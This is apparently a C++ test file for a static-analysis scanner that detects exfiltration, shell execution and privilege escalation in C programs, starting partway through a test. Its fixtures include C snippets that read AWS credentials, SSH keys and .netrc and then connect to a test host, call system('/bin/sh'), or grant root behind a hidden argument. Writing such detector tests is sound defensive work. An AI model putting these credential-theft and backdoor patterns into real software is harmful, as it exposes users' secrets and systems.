  CHECK_FALSE(why.count("helper"));  // static and called: reached, not an entry
  CHECK(peer == "203.0.113.9:4444");
}

TEST_CASE("subcommands are separate runs", "[behaviors]") {
  const char *program = R"(
    static int creds(void) { FILE *f = fopen("/root/.aws/credentials", "r"); return f ? 0 : 1; }
    static int ping(void) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = {0};
      a.sin_addr.s_addr = inet_addr("198.18.0.10"); connect(s, (struct sockaddr *)&a, sizeof a);
      return (int)send(s, "ping", 4, 0); }
    int main(int argc, char **argv) {
      if (argc < 2) return 2;
      %s
      return 1; })";
  char dispatch[2048], both[2048];
  snprintf(dispatch, sizeof dispatch, program,
           "if (strcmp(argv[1], \"creds\") == 0) return creds();"
           " if (strcmp(argv[1], \"ping\") == 0) return ping();");
  snprintf(both, sizeof both, program, "creds(); return ping();");
  CHECK(count(scan(dispatch), "behavior.exfiltration") == 0);
  CHECK(count(scan(both), "behavior.exfiltration") == 1);
}

TEST_CASE("a value written on some paths only is one of several", "[capabilities]") {
  auto t = factsOf(R"(
    void f(void) { const char *src = getenv("SRC"); if (!src) src = "/srv/data";
                   char cmd[64]; snprintf(cmd, sizeof cmd, "tar -C %s .", src); system(cmd); }
    void g(void) { char p[64]; if (getenv("X")) { strcpy(p, "/tmp/a"); unlink(p); } }
    void h(const char *dir) { char cmd[64]; snprintf(cmd, sizeof cmd, "ls %s", dir); system(cmd); })");
  std::vector<std::string> values;
  for (const auto &fn : t.functions)
    if (fn.name == "f")
      for (const auto &c : fn.capabilities)
        if (c.kind == "exec-shell")
          values.push_back(c.value);
  // The fallback is one of the commands, not the only one.
  CHECK(values == std::vector<std::string>{"tar -C $SRC .", "tar -C /srv/data ."});
  const facts::Capability *d = capability(t, "g", "file-delete");
  REQUIRE(d);
  CHECK(d->value == "/tmp/a");       // written and used in the same branch
  const facts::Capability *e = capability(t, "h", "exec-shell");
  REQUIRE(e);
  CHECK(e->value == "ls *");  // a parameter is unknown, not one of several
}

TEST_CASE("helpers of the unit that fill an out-parameter give it their text", "[capabilities]") {
  auto t = factsOf(R"(
    static void name_into(char *out, unsigned n) { snprintf(out, n, "%s/%s", "/var/tmp", "mod.so"); }
    static void pick(const char **out) { *out = "/usr/lib/x.so"; }
    static void copy_twice(char *out) { char tmp[32]; strcpy(tmp, "/tmp/y"); strcpy(out, tmp); }
    static void loop(char *out) { loop(out); }
    static void unknown(char *out) { out[0] = 0; }
    void a(void) { char p[64]; name_into(p, sizeof p); unlink(p); }
    void b(void) { const char *p = "/etc/keep"; pick(&p); unlink(p); }
    void c(void) { char p[64]; copy_twice(p); unlink(p); }
    void d(void) { char p[64]; loop(p); unlink(p); }
    void e(void) { char p[64] = "/srv/base"; unknown(p); unlink(p); })");
  auto value = [&](const char *fn) {
    const facts::Capability *x = capability(t, fn, "file-delete");
    return x ? x->value : std::string("(none)");
  };
  CHECK(value("a") == "/var/tmp/mod.so");
  CHECK(value("b") == "/usr/lib/x.so");  // *out = ... through the pointer's address
  CHECK(value("c") == "/tmp/y");         // the helper's own local, folded in its body
  CHECK(value("d") == "");               // a recursive helper writes nothing known
  CHECK(value("e") == "/srv/base");      // nothing foldable written: as it was
}

TEST_CASE("both sides of a conditional, an unknown side left out", "[capabilities]") {
  auto t = factsOf(R"(
    void f(void) { const char *d = getenv("SPOOL") ?: "/var/spool/x"; unlink(d); }
    void g(int n, const char *p) { unlink(n ? "/tmp/a" : p); })");
  std::vector<std::string> f, g;
  for (const auto &fn : t.functions)
    for (const auto &c : fn.capabilities)
      if (c.kind == "file-delete")
        (fn.name == "f" ? f : g).push_back(c.value);
  std::sort(f.begin(), f.end());
  CHECK(f == std::vector<std::string>{"$SPOOL", "/var/spool/x"});
  CHECK(g == std::vector<std::string>{"/tmp/a"});  // no '*' use for the parameter
}

TEST_CASE("texts from a constant table walked by a loop", "[capabilities]") {
  auto t = factsOf(R"(
    struct target { const char *label; const char *rel; };
    static const struct target kTargets[] = { {"ssh", "/.ssh/id_rsa"}, {"netrc", "/.netrc"} };
    static const char *kDirs[] = { "/var/tmp/a", "/var/tmp/b" };
    static const char *writable[] = { "/tmp/x", "/tmp/y" };
    void f(void) { char p[256]; const char *home = getenv("HOME");
      for (unsigned i = 0; i < 2; i++) { snprintf(p, sizeof p, "%s%s", home, kTargets[i].rel);
        FILE *fp = fopen(p, "r"); if (fp) fclose(fp); } }
    void g(void) { for (unsigned i = 0; i < 2; i++) unlink(kDirs[i]); }
    void h(void) { writable[0] = getenv("T"); for (unsigned i = 0; i < 2; i++) unlink(writable[i]); })");
  std::vector<std::string> reads, deletes, written;
  for (const auto &fn : t.functions)
    for (const auto &c : fn.capabilities) {
      if (c.kind == "file-read")
        reads.push_back(c.value);
      if (c.kind == "file-delete" && fn.name == "g")
        deletes.push_back(c.value);
      if (c.kind == "file-delete" && fn.name == "h")
        written.push_back(c.value);
    }
  // A table the unit writes into is not a table of constants.
  CHECK(written == std::vector<std::string>{""});
  std::sort(reads.begin(), reads.end());
  CHECK(reads == std::vector<std::string>{"$HOME/.netrc", "$HOME/.ssh/id_rsa"});
  CHECK(deletes == std::vector<std::string>{"/var/tmp/a", "/var/tmp/b"});
}

TEST_CASE("the two branches of one test are told apart", "[behaviors]") {
  // Root on one host, a drop to the user elsewhere: the root branch still
  // runs the program as root.
  CHECK(count(scan(R"(
    int main(void) { char host[64]; if (gethostname(host, sizeof host) != 0) return 1;
      if (strcmp(host, "build-07") == 0) { setuid(0); } else { setuid(getuid()); }
      return execl("/usr/lib/tool/flash", "flash", (char *)0); })"),
              "behavior.privilege-escalation-exec") == 1);
  // A drop on every path is a drop.
  CHECK(count(scan(R"(
    int main(void) { setuid(0); setuid(getuid());
      return execl("/usr/lib/tool/flash", "flash", (char *)0); })"),
              "behavior.privilege-escalation-exec") == 0);
}

TEST_CASE("guards name what they compare; different values are not subcommands",
          "[behaviors]") {
  // Two different environment variables: one run can pass both tests.
  CHECK(count(scan(R"(
    static int creds(void) { FILE *f = fopen("/root/.aws/credentials", "r"); return f ? 0 : 1; }
    static int ping(void) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = {0};
      a.sin_addr.s_addr = inet_addr("198.18.0.10"); connect(s, (struct sockaddr *)&a, sizeof a);
      return (int)send(s, "x", 1, 0); }
    int main(void) { const char *a = getenv("A"), *b = getenv("B"); if (!a || !b) return 1;
      if (strcmp(a, "on") == 0) creds();
      if (strcmp(b, "go") == 0) ping();
      return 0; })"),
              "behavior.exfiltration") == 1);
  auto t = factsOf(R"(int main(int argc, char **argv) {
      if (argc > 1 && strcmp(argv[1], "--root-now-4412") == 0) setuid(0); return 0; })");
  const facts::Capability *c = capability(t, "main", "priv-change");
  REQUIRE(c);
  REQUIRE_FALSE(c->guards.empty());
  CHECK(c->guards[0].subject == "argv[1]");
}

TEST_CASE("a helper's value keeps the guards of the call that supplies it", "[manifest]") {
  std::vector<facts::TUFacts> units{factsOf(R"(
    static void save(const char *path) { FILE *f = fopen(path, "w"); if (f) fclose(f); }
    int main(int argc, char **argv) {
      save("/tmp/app.cache");
      if (argc > 1 && strcmp(argv[1], "install-cron") == 0) save("/etc/cron.d/app");
      return 0; })")};
  ProgramGraph g = ProgramGraph::build(units);
  Manifest m = buildManifest(g, builtinRules());
  std::map<std::string, size_t> guards;
  for (const EntryPoint &e : m.entries)
    for (const CapabilityUse &u : e.uses)
      if (u.cap.kind == "file-write")
        guards[u.cap.value] = u.guards.size();
  REQUIRE(guards.count("/tmp/app.cache"));
  REQUIRE(guards.count("/etc/cron.d/app"));
  CHECK(guards["/tmp/app.cache"] == 0);
  CHECK(guards["/etc/cron.d/app"] == 1);
}

TEST_CASE("early exits in one case of a switch do not guard another", "[guards]") {
  auto t = factsOf(R"(
    void f(int op, const char *user) {
      switch (op) {
      case 1: if (strcmp(user, "root") != 0) return; puts("one"); break;
      case 2: system("/bin/sh"); break;
      } })");
  auto kinds = guardKinds(t, "f", "exec-shell");
  CHECK_FALSE(has(kinds, "not-user-input"));
  CHECK_FALSE(has(kinds, "user-input"));
}

TEST_CASE("a call through a parameter reaches what the callers pass", "[graph]") {
  std::vector<facts::TUFacts> units{factsOf(R"(
    typedef int (*fn_t)(char **);
    int a1(char **v) { return v != 0; }
    int a2(char **v) { return v == 0; }
    int a3(char **v) { return 3; }
    fn_t table[] = {a1, a2, a3};
    struct box { fn_t fn; };
    static int runner(char **v, fn_t f) { return f(v); }
    static int relay(char **v, fn_t g) { return runner(v, g); }
    static int opaque_runner(char **v, fn_t f) { return (*f)(v); }
    static int taken(char **v, fn_t f) { return f(v); }
    int (*keep)(char **, fn_t) = taken;
    int use(char **v, struct box *b) {
      return runner(v, a1) + relay(v, a2) + opaque_runner(v, b->fn) + opaque_runner(v, a1);
    })")};
  ProgramGraph g = ProgramGraph::build(units);
  auto targetsOf = [&](const std::string &fn) {
    std::set<std::string> out;
    for (size_t fi = 0; fi < g.fns.size(); ++fi)
      if (g.fns[fi]->name == fn)
        for (const std::vector<size_t> &site : g.callees[fi])
          for (size_t h : site)
            out.insert(g.fns[h]->name);
    return out;
  };
  // Callers pass a1 directly and a2 through relay's parameter.
  CHECK(targetsOf("runner") == std::set<std::string>{"a1", "a2"});
  // One caller passes a pointer read from memory: every function of the type.
  CHECK(targetsOf("opaque_runner") == std::set<std::string>{"a1", "a2", "a3"});
  // Its address is taken, so its callers are not all known.
  CHECK(targetsOf("taken") == std::set<std::string>{"a1", "a2", "a3"});
}

TEST_CASE("a call through a struct member reaches what the program stores there", "[graph]") {
  std::vector<facts::TUFacts> units{factsOf(R"(
    typedef int (*fn_t)(char **);
    int a1(char **v) { return v != 0; }
    int a2(char **v) { return v == 0; }
    int a3(char **v) { return 3; }
    struct ops { fn_t run; fn_t stop; fn_t poke; };
    static const struct ops table = {a1, 0, a3};
    static void set_stop(struct ops *o, fn_t f) { o->stop = f; }
    static void setup(struct ops *o) { set_stop(o, a2); fn_t *slot = &o->poke; *slot = a2; }
    int use(struct ops *o, char **v) { setup(o); return o->run(v) + o->stop(v) + o->poke(v) + table.run(v); }
  )")};
  ProgramGraph g = ProgramGraph::build(units);
  std::vector<std::set<std::string>> sites;
  for (size_t fi = 0; fi < g.fns.size(); ++fi)
    if (g.fns[fi]->name == "use")
      for (const std::vector<size_t> &site : g.callees[fi]) {
        sites.emplace_back();
        for (size_t h : site)
          sites.back().insert(g.fns[h]->name);
      }
  // setup(), then o->run (the table's), o->stop (set through a parameter),
  // o->poke (its address is taken: every function of the type), table.run.
  REQUIRE(sites.size() == 5);
  CHECK(sites[1] == std::set<std::string>{"a1"});
  CHECK(sites[2] == std::set<std::string>{"a2"});
  CHECK(sites[3] == std::set<std::string>{"a1", "a2", "a3"});
  CHECK(sites[4] == std::set<std::string>{"a1"});
}
